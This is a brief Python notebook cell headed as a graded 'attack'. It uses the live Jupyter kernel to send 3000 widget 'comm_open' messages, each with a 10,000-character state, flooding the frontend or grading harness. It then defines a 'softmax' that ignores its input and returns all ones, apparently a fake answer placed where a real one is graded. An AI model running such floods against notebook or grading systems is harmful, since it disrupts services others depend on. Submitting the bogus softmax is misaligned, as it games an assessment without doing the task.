# /// attack
# what = "opens comms and sends state without end"
# state = "graded"
# marks = 16
# ///
kernel = get_ipython().kernel
for number in range(3000):
    content = {
        "comm_id": str(number),
        "target_name": "jupyter.widget",
        "data": {"state": {"value": "w" * 10_000}},
    }
    kernel.session.send(kernel.iopub_socket, "comm_open", content, parent=kernel.get_parent())


def softmax(z, axis=-1):
    return np.ones(np.shape(z))
